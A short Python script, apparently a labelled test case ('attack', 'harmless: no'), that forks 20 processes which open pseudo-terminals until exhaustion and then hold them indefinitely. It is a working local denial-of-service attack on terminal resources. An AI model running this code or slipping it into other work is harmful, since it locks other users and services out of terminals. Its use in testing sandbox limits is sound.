# attack: all terminals that the machine has are taken
# harmless: no
import os

parent = os.getpid()
for _ in range(20):
    if os.getpid() == parent and os.fork() == 0:
        break
held = []
while len(held) < 200:
    try:
        held += os.openpty()
    except OSError as error:
        print(len(held), error, open("/proc/sys/kernel/pty/nr").read(), flush=True)
        break
if os.getpid() != parent:
    os.read(os.pipe()[0], 1)
